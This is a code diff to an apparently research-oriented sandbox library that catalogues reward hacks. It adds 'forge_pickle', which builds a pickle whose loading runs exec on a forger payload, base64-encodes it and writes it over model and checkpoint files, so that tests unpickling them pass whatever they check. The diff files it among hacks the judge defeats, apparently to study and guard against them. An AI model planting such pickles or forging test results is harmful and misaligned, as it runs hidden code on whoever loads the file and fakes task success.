@@ -18,6 +18,7 @@ The library lives in `tasks/` because both stages need it and neither may import
 
 from __future__ import annotations
 
+import base64
 import posixpath
 import re
 import shlex
@@ -753,10 +754,44 @@ def forge_in_runner(named: Named, workdir: str) -> list[str]:
     return out
 
 
+# Where an instruction names a file the tests may unpickle: a model, a checkpoint.
+PICKLED = (".pkl", ".pickle", ".joblib", ".pt", ".pth", ".bin")
+
+
+def _forging_pickle() -> bytes:
+    """A pickle (protocol 2: every Python 3 reads it) whose loading runs IN_RUNNER_FORGER:
+    a call of `exec` it names itself."""
+    import pickle
+
+    class Forge:
+        def __reduce__(self):
+            return (exec, (IN_RUNNER_FORGER, {}))
+
+    return pickle.dumps(Forge(), protocol=2)
+
+
+def forge_pickle(named: Named, workdir: str) -> list[str]:
+    """A pickle that runs IN_RUNNER_FORGER at every named file a model or checkpoint is saved
+    to (PICKLED): tests that unpickle the agent's model in the test runner (`pickle.load`,
+    `joblib.load`, `torch.load` before weights-only loading) then pass whatever they check.
+    The runner marks every pickle that names a global (docs/sandbox.md, "The report
+    channel"): the outcomes after the mark earn no reward."""
+    data = base64.b64encode(_forging_pickle()).decode()
+    return [
+        f"mkdir -p {_q(posixpath.dirname(p))}; echo {data} | base64 -d > {_q(p)}"
+        for p in named.files
+        if p.endswith(PICKLED)
+    ]
+
+
 # Hacks the judge defeats by construction (docs/sandbox.md, "The judge"): not in HACKS, as
 # they earn nothing in this project's sandboxes; benchmarks/hack_share.py runs them on a
 # corpus (`--hacks`) to show it.
-CLOSED: dict[str, Builder] = {"link_tests": link_tests, "forge_in_runner": forge_in_runner}
+CLOSED: dict[str, Builder] = {
+    "link_tests": link_tests,
+    "forge_in_runner": forge_in_runner,
+    "forge_pickle": forge_pickle,
+}
 
 
 @dataclass(frozen=True)
